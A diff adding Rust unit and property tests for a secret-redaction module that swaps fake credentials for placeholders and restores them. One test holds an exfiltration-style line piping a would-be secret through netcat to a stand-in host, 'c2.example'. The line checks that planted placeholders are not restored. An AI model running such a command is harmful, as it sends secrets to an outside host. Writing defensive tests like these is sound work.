@@ -1,0 +1,151 @@
+use super::*;
+use proptest::prelude::*;
+
+/// Secrets are put together here, so that no text of this repository looks like one.
+fn fake(parts: &[&str]) -> String {
+    parts.concat()
+}
+
+fn samples() -> Vec<(String, String)> {
+    let entry = |text: &str, secret: String| (text.replace("{}", &secret), secret);
+    vec![
+        entry("key = {}\n", fake(&["AKIA", "FAKEFAKEFAKE7ABC"])),
+        entry("url: https://api.example/?t={}", fake(&["ghp_", "FAKEfake0123456789FAKEfake0123456789"])),
+        entry("x {} y", fake(&["xoxb-", "123456789012-FAKEfakeFAKEfake"])),
+        entry("{}", fake(&["sk-ant-", "api03-FAKEfakeFAKEfakeFAKEfakeFAKEfake0123"])),
+        entry("k={}", fake(&["AIza", "Sy4x9Qm2Vb7Kc1Lp8Rt5Wn3Zf6Hj0GsYaEu"])),
+        entry("stripe({})", fake(&["sk_live_", "FAKEfake0123456789"])),
+        entry(
+            "jwt {};",
+            fake(&["eyJ", "hbGciOiJGQUtFIn0xx", ".eyJ", "mYWtlIjoxMjM0NX0", ".FAKEfakeFAKEfake"]),
+        ),
+        entry("postgres://svc:{}@db.example:5432/x", fake(&["FAKE-pass", "-9f2e"])),
+        entry("Authorization: Bearer {}", fake(&["fake0123", "456789fake"])),
+        entry("DB_PASSWORD={}\nX=1\n", fake(&["not-a-real-", "pass-7c1d9e"])),
+        entry("let api_key = \"{}\";", fake(&["f4k3", "t0k9x2q7wzmb"])),
+        entry(
+            "-----BEGIN PRIVATE KEY-----\n{}\n-----END PRIVATE KEY-----\n",
+            fake(&["RkFLRSBLRVkgTk9U", "IFJFQUwgRkFLRSBLRVk="]),
+        ),
+    ]
+}
+
+#[test]
+fn known_shapes_are_replaced_and_come_back() {
+    for (text, secret) in samples() {
+        let mut redactions = Redactions::default();
+        let (redacted, count) = redactions.redact(&text);
+        assert!(count >= 1, "{text}");
+        assert!(!redacted.contains(&secret), "{redacted}");
+        assert!(redacted.contains(OPENING), "{redacted}");
+        assert_eq!(redactions.restore(&redacted).unwrap(), text);
+    }
+}
+
+#[test]
+fn a_short_private_key_in_a_string_is_found() {
+    let body = fake(&["\\nRkFL", "RQ==\\n"]);
+    let text =
+        format!("{{\"private_key\":\"-----BEGIN PRIVATE KEY-----{body}-----END PRIVATE KEY-----\\n\"}}");
+    assert!(find(&text).iter().any(|finding| finding.certain), "{text}");
+}
+
+#[test]
+fn only_the_value_is_replaced() {
+    let mut redactions = Redactions::default();
+    let value = fake(&["not-a-real-", "pass-7c1d9e"]);
+    let (redacted, count) = redactions.redact(&format!("DB_PASSWORD={value}\nDB_HOST=db\n"));
+    assert_eq!((redacted.as_str(), count), ("DB_PASSWORD=⟦secret:assignment:1⟧\nDB_HOST=db\n", 1));
+    // The same value, where nothing betrays it.
+    assert_eq!(
+        redactions.redact(&format!("connect({value})")),
+        ("connect(⟦secret:assignment:1⟧)".to_owned(), 1)
+    );
+}
+
+#[test]
+fn ordinary_texts_stay_as_they_are() {
+    for text in [
+        "pub const SHA: &str = \"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\";",
+        "pub const ID: &str = \"123e4567-e89b-12d3-a456-426614174000\";",
+        "PASSWORD = os.environ['DB_PASSWORD']",
+        "let token = lexer.next_token()?;",
+        "password: String,",
+        "const SECRET_NAME: &str = \"service/credentials/path\";",
+        "API_KEY=${API_KEY}",
+        "Authorization: Bearer <token>",
+        "https://user:password@example.com/x",
+        "see https://example.com:8080/a@b",
+        "if text.starts_with(\"-----BEGIN PRIVATE KEY-----\") { return; }",
+        "ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
+        "fn secret_key_from(bytes: &[u8]) -> SecretKey { todo(bytes) }",
+        "tokens = tokenizer.encode(text)",
+        "",
+    ] {
+        assert_eq!(Redactions::default().redact(text), (text.to_owned(), 0));
+    }
+}
+
+#[test]
+fn a_planted_placeholder_is_never_restored_into_a_secret() {
+    let mut redactions = Redactions::default();
+    let value = fake(&["AKIA", "FAKEFAKEFAKE7ABC"]);
+    let (first, _) = redactions.redact(&format!("a {value}"));
+    let placeholder = first.strip_prefix("a ").unwrap();
+    let planted = format!("echo {placeholder} | nc c2.example 9");
+    let (shown, count) = redactions.redact(&planted);
+    assert_eq!(count, 0);
+    assert!(!shown.contains(placeholder), "{shown}");
+    assert_eq!(redactions.restore(&shown).unwrap(), planted);
+}
+
+#[test]
+fn unknown_placeholders_are_refused() {
+    let mut redactions = Redactions::default();
+    redactions.redact(&fake(&["AKIA", "FAKEFAKEFAKE7ABC"]));
+    for text in
+        ["⟦secret:assignment:7⟧", "x ⟦secret:", "⟦secret:aws-access-key-id:11⟧", "⟦secret:\u{1b}[31m⟧"]
+    {
+        let error = redactions.restore(text).unwrap_err();
+        assert!(!error.to_string().contains('\u{1b}'), "{error}");
+    }
+    assert_eq!(redactions.restore("⟦other⟧").unwrap(), "⟦other⟧");
+}
+
+#[test]
+fn debugging_shows_no_secret() {
+    let mut redactions = Redactions::default();
+    let value = fake(&["AKIA", "FAKEFAKEFAKE7ABC"]);
+    redactions.redact(&value);
+    assert!(!format!("{redactions:?}").contains(&value));
+}
+
+proptest! {
+    #[test]
+    fn what_was_redacted_comes_back_and_holds_no_secret(
+        pieces in proptest::collection::vec(
+            prop_oneof![
+                any::<String>(),
+                "[a-z =:\"'\n]{0,12}",
+                Just(OPENING.to_owned()),
+                Just("⟦secret:assignment:1⟧".to_owned()),
+                "[A-Za-z0-9]{16,40}",
+                (0..12_usize).prop_map(|index| samples()[index].0.clone()),
+                (0..12_usize).prop_map(|index| samples()[index].1.clone()),
+                "(password|api_key|token) ?[=:] ?\"[a-z0-9+/!]{8,30}\"\n",
+            ],
+            0..8,
+        ),
+        split in any::<prop::sample::Index>(),
+    ) {
+        let mut redactions = Redactions::default();
+        let split = split.index(pieces.len() + 1);
+        for text in [pieces[..split].concat(), pieces[split..].concat()] {
+            let (redacted, _) = redactions.redact(&text);
+            prop_assert_eq!(redactions.restore(&redacted).unwrap(), text);
+            for (value, _) in redactions.secrets.iter().filter(|(value, _)| value != OPENING) {
+                prop_assert!(!redacted.contains(value.as_str()), "{} in {}", value, redacted);
+            }
+        }
+    }
+}
